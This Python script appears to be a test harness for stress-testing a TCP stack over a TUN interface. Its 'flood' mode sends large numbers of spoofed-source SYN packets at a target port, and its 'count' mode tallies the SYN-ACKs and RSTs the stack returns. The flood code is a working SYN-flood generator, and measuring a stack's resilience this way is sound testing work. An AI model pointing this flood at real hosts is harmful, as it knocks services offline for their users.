"""synflood.py — spoofed SYNs at a port, and a counter of what the stack answers (attack 1).

  synflood.py flood --dst 10.77.0.2 --dport 80 --count 100000 [--net 10.78.0.0/16] [--seed 1] [--max-seconds 60]
                    [--started FILE]
      builds COUNT SYNs, creates FILE (if given), then sends them as fast as the kernel takes them, each from a random address of NET and port,
      prints {"sent", "nobufs", "seconds", "pps"} as JSON.
  synflood.py count --ifname tunstack0 --stack 10.77.0.2 --out FILE [--max-seconds 120]
      counts the stack's SYN-ACKs and RSTs (to spoofed addresses and to others) until SIGTERM or the
      time limit, then writes JSON to FILE.
"""
import argparse
import json
import random
import signal
import socket
import struct
import sys
import time

sys.path.insert(0, __import__("os").path.dirname(__file__))
import rawtcp  # noqa: E402

SOL_PACKET = 263  # linux/socket.h
PACKET_IGNORE_OUTGOING = 23  # linux/if_packet.h, Linux >= 4.20


def flood(a):
    net, plen = a.net.split("/")
    base = struct.unpack("!I", socket.inet_aton(net))[0]
    span = 1 << (32 - int(plen))
    rng = random.Random(a.seed)
    dstb = socket.inet_aton(a.dst)
    opts = rawtcp.syn_options(1460, 7, True)
    raw = rawtcp.Raw()
    # Build first, then send: the send loop is what the stack sees, not Python's packet building.
    pkts = []
    for _ in range(a.count):
        src = struct.pack("!I", base + rng.randrange(1, span - 1))
        pkts.append(rawtcp.tcp_packet(src, dstb, rng.randrange(1024, 65535), a.dport, rng.getrandbits(32), 0,
                                      rawtcp.SYN, 64240, opts))
    if a.started:
        open(a.started, "w").close()
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    send = raw.send
    for i, p in enumerate(pkts):
        while not send(p, a.dst):
            time.sleep(0.0005)  # the TUN's queue is full: wait for the stack to read, then go on
            if time.monotonic() > deadline:
                break
        if (i & 1023) == 0 and time.monotonic() > deadline:
            break
    secs = time.monotonic() - t0
    print(json.dumps({"sent": raw.sent, "nobufs": raw.nobufs, "seconds": round(secs, 3),
                      "pps": round(raw.sent / secs) if secs > 0 else 0}))


def count(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(rawtcp.ETH_P_ALL))
    try:
        s.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
    except OSError:
        pass  # older kernel: outgoing frames are skipped below
    try:
        s.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)  # SO_RCVBUFFORCE
    except OSError:
        pass
    s.bind((a.ifname, rawtcp.ETH_P_ALL))
    s.settimeout(0.2)
    c = {"synack": 0, "synack_to_host": 0, "rst": 0, "other": 0}
    stop = [False]

    def on_term(*_):
        stop[0] = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    stack = socket.inet_aton(a.stack)
    deadline = time.monotonic() + a.max_seconds
    buf = bytearray(2048)
    while not stop[0] and time.monotonic() < deadline:
        try:
            n, addr = s.recvfrom_into(buf)
        except socket.timeout:
            continue
        except InterruptedError:
            continue
        except OSError:
            break  # the TUN went down (the stack stopped): report what was counted
        if addr[2] == rawtcp.PACKET_OUTGOING or n < 40 or buf[12:16] != stack or buf[9] != socket.IPPROTO_TCP:
            continue
        ihl = (buf[0] & 0x0F) * 4
        flags = buf[ihl + 13]
        if flags & (rawtcp.SYN | rawtcp.ACK) == rawtcp.SYN | rawtcp.ACK:
            if a.host is not None and buf[16:20] == socket.inet_aton(a.host):
                c["synack_to_host"] += 1
            else:
                c["synack"] += 1
        elif flags & rawtcp.RST:
            c["rst"] += 1
        else:
            c["other"] += 1
    with open(a.out, "w") as f:
        json.dump(c, f)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--dst", required=True)
    f.add_argument("--dport", type=int, default=80)
    f.add_argument("--count", type=int, required=True)
    f.add_argument("--net", default="10.78.0.0/16")
    f.add_argument("--seed", type=int, default=1)
    f.add_argument("--max-seconds", type=float, default=60)
    f.add_argument("--started", default=None, help="a file created when the first SYN is about to go")
    c = sub.add_parser("count")
    c.add_argument("--ifname", required=True)
    c.add_argument("--stack", required=True)
    c.add_argument("--host", default=None, help="the kernel's address: its SYN-ACKs are counted apart")
    c.add_argument("--out", required=True)
    c.add_argument("--max-seconds", type=float, default=120)
    a = p.parse_args()
    if a.cmd == "flood":
        if a.count < 1 or a.count > 10_000_000:
            p.error("--count must be 1..10000000")
        flood(a)
    else:
        count(a)


if __name__ == "__main__":
    main()
